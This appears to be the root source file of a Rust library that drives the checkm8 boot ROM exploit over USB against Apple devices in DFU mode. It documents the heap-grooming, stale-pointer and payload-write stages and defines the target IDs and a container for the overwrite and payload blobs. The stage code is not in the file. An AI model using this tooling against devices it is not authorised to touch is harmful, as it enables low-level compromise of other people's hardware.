//! `checkm8` drives the [checkm8](https://github.com/axi0mX/ipwndfu) boot ROM
//! exploit from the USB host side against a device sitting in DFU mode.
//!
//! The exploit is a fixed sequence of stages, one per scheduler tick:
//! 1. Heap feng-shui: a long run of string descriptor requests grooms the
//! boot ROM's allocator into a known fragmentation pattern.
//! 2. Set global state: oversized DFU downloads leave a stale I/O buffer
//! pointer behind in the DFU globals.
//! 3. Heap occupation: a known heap slot is occupied and the overwrite
//! blob plus the payload image are written through the stale pointer.
//!
//! The byte blobs used by the last stage are opaque to this crate and are
//! provided through [`Payloads`].

pub use bytes;
use bytes::Bytes;
pub use rusb;
use std::path::Path;

#[macro_use]
pub mod macros;

mod error;
pub mod exploit;
pub mod usb;

pub use error::{Error, Result};

/// Vendor ID of the boot ROM in DFU mode.
pub const TARGET_VID: u16 = 0x05AC;
/// Product ID of the boot ROM in DFU mode.
pub const TARGET_PID: u16 = 0x1227;

/// Max packet size of the target's control endpoint. Every data phase is
/// issued in units of this size.
pub const PACKET_SIZE: usize = 0x40;

/// The immutable blobs written to the device by the heap occupation stage.
#[derive(Debug, Clone)]
pub struct Payloads {
    /// Written over the corrupted control structure, right after one
    /// packet of padding. At most one packet long.
    overwrite: Bytes,
    /// The code which should be executed by the device.
    payload: Bytes,
}

impl Payloads {
    /// Creates the payload store, checking that the blobs fit in the
    /// transfers they are sent with.
    pub fn new(overwrite: impl Into<Bytes>, payload: impl Into<Bytes>) -> Result<Self> {
        let overwrite = overwrite.into();
        let payload = payload.into();

        if overwrite.len() > PACKET_SIZE {
            return Err(Error::OverwriteTooBig(overwrite.len()));
        }
        // The payload length is announced as a 16 bit `wLength`.
        if payload.len() > u16::MAX as usize {
            return Err(Error::PayloadTooBig(payload.len()));
        }

        Ok(Payloads { overwrite, payload })
    }

    /// Reads the overwrite blob and the payload image from disk.
    pub fn load(overwrite: &Path, payload: &Path) -> Result<Self> {
        let overwrite = std::fs::read(overwrite)?;
        let payload = std::fs::read(payload)?;
        Self::new(overwrite, payload)
    }

    pub fn overwrite(&self) -> &[u8] {
        &self.overwrite
    }

    pub fn payload(&self) -> &[u8] {
        &self.payload
    }

    /// Returns the overwrite blob padded with zeroes to a full packet.
    pub fn overwrite_packet(&self) -> [u8; PACKET_SIZE] {
        let mut packet = [0; PACKET_SIZE];
        packet[..self.overwrite.len()].copy_from_slice(&self.overwrite);
        packet
    }

    /// Splits the payload image into packets; only the last one may be short.
    pub fn payload_chunks(&self) -> impl Iterator<Item = &[u8]> + '_ {
        self.payload.chunks(PACKET_SIZE)
    }
}
